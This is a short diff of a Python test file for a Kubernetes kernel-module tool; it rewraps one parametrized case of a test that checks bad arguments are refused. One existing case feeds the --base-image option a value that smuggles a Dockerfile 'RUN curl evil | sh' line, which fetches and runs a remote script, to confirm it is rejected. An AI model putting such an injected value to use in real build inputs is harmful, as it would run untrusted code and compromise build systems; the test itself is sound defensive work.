@@ -317,7 +317,8 @@ def test_a_private_key_among_the_sources_is_refused_made_in_test(tmp_path: Path)
     (["--image", IMAGE, "--namespace", "Bad_NS"], "is not a Kubernetes namespace name"),
     (["--image", IMAGE, "--prebuilt", "--flavour-regexp"], "error: --flavour-regexp:"),
     (["--image", IMAGE, "--base-image", "debian:12\nRUN curl evil | sh"], "is not an image reference"),
-    (["--image", IMAGE, "--namespace", "a-namespace-that-is-long-enough-to-overflow"], "longer than KMM's webhook takes"),
+    (["--image", IMAGE, "--namespace", "a-namespace-that-is-long-enough-to-overflow"],
+     "longer than KMM's webhook takes"),
 ])
 def test_bad_arguments_are_one_line(args: list[str], message: str) -> None:
     proc = subprocess.run([sys.executable, "-m", "kmodkit", "kmm", str(EXAMPLE), "-k", KERNELS[0], *args],
